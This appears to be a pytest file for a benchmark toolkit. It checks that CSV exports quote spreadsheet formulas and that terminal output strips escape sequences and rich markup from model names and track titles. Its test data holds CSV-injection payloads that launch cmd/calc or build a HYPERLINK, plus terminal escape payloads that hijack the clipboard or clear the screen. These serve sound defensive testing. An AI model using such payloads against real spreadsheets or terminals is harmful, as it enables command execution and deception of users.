"""Issue 50 item 2: text from a results folder read by spreadsheets and terminals.

A model name, an effort or a track title is someone else's text. In a CSV (the site's
downloads and `leaderboard --format csv`) a cell starting a formula is quoted; on a terminal
escape sequences (OSC 0 title, OSC 52 clipboard, CSI 2J, C1 controls) never reach the screen,
and rich's markup in a name is shown, not interpreted.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from results_factory import run_dict, track_dict, write_registry, write_run

from toolkit.cli import cli
from toolkit.commands.console import terminal_lines, terminal_text
from toolkit.stats import leaderboard, load_results, to_csv
from toolkit.stats.export import csv_cell

FORMULAS = [
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Escape sequences someone may hide in a name (test data): window title, clipboard, clear
# screen, the 8-bit CSI, a DCS string, and a bell.
ESCAPES = [
    "\x1b]0;owned title\x07",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "\x1b[2J\x1b[H",
    "\x9b2J",
    "\x1bPq#0;2;0;0;0\x1b\\",
    "\x07",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell("gpt-x") == "gpt-x" and csv_cell(-1.5) == -1.5 and csv_cell(None) == ""


def _results(tmp_path: Path, models: list[str], effort: str | None = None) -> Path:
    results = tmp_path / "results"
    write_registry(results, [track_dict(title="[bold]T\x1b]0;x\x07")])
    for i, model in enumerate(models):
        write_run(results, run_dict(f"r{i}", model=model, effort=effort, seed=i))
    return results


def test_the_csv_downloads_and_the_cli_quote_formulas(tmp_path: Path) -> None:
    results = _results(tmp_path, FORMULAS, effort="=1+2")
    loaded = load_results(results)
    outputs = [to_csv(leaderboard(loaded, "v1-test"))]
    done = CliRunner().invoke(cli, ["leaderboard", "--results", str(results), "--format", "csv"])
    assert done.exit_code == 0, done.output
    outputs.append(done.output)
    for output in outputs:
        rows = list(csv.DictReader(io.StringIO(output, newline="")))
        assert sorted(r["model"] for r in rows) == sorted("'" + f for f in FORMULAS)
        assert {r["effort"] for r in rows} == {"'=1+2"}
        starts = ("=", "+", "-", "@", "\t", "\r")
        for row in rows:
            assert not any(str(v).startswith(starts) for v in row.values())


@pytest.mark.parametrize("force_terminal", [False, True])
def test_the_terminal_gets_no_escape_and_no_markup(tmp_path: Path, force_terminal: bool) -> None:
    models = [f"m{i}{seq}x" for i, seq in enumerate(ESCAPES)] + ["[red]marked[/red] [link=x]y"]
    results = _results(tmp_path, models, effort="\x1b]0;e\x07high")
    env = {"FORCE_COLOR": "1", "TTY_COMPATIBLE": "1", "COLUMNS": "400"} if force_terminal else {}
    done = CliRunner().invoke(cli, ["leaderboard", "--results", str(results)], env=env)
    assert done.exit_code == 0, done.output
    out = done.output
    for seq in ("\x1b]", "\x9b", "\x07", "\x1bP", "\x1b[2J", "owned"):
        assert seq not in out, (seq, out)
    assert "[red]marked[/red] [link=x]y" in out  # shown as written
    assert "[bold]T" in out


def test_terminal_text() -> None:
    assert terminal_text("a\x1b]0;t\x07b\tc\x00d\x9b2Je") == "ab cde"
    assert terminal_text("[b]x") == "\\[b]x"


def test_tracks_list_shows_a_title_never_obeys_it(tmp_path: Path) -> None:
    results = tmp_path / "results"
    write_registry(results, [track_dict(title="[red]T[/red]\x1b]52;c;eA==\x07\x1b[2J")])
    done = CliRunner().invoke(cli, ["tracks", "list", "--results", str(results)])
    assert done.exit_code == 0, done.output
    assert "[red]T[/red]" in done.output and "\x1b" not in done.output


def test_csv_on_a_terminal_keeps_its_lines_and_drops_escapes() -> None:
    text = 'model\n"\x1b]52;c;eA==\x07m\x1b[2J"\n"\'=1+1"\n'
    assert terminal_lines(text) == 'model\n"m"\n"\'=1+1"\n'


def test_keys_list_shows_a_folder_s_holder_on_one_line(tmp_path: Path) -> None:
    results = _results(tmp_path, ["m"])
    keys = json.loads((results / "signing_keys.json").read_text())
    keys["keys"][0]["holder"] = "lab\x9b2J\u2028[red]x"  # C1 CSI and a line separator
    (results / "signing_keys.json").write_text(json.dumps(keys))
    done = CliRunner().invoke(cli, ["keys", "list", "--results", str(results)])
    assert done.exit_code == 0, done.output
    assert "\x9b" not in done.output and "\u2028" not in done.output
    assert "lab\\x9b2J\\u2028[red]x" in done.output
